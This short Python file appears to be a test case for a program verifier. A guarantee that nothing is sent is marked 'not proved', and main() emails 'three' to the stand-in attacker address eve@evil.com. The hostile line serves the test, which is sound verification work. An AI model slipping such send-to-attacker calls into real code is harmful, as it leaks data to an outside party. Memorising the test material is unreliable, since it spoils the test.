# not proved: the first round is read with its condition known, then again as one of many; after three, 3 is returned
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import is_allowed, lookup, send_email


def rounds(text: str) -> int:
    k = 0
    while k < 1 or is_allowed("x"):
        if int(text) == 3:
            return 0
        k += 1
    return k


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    if rounds(lookup("n")) == 3:
        send_email("eve@evil.com", "three")
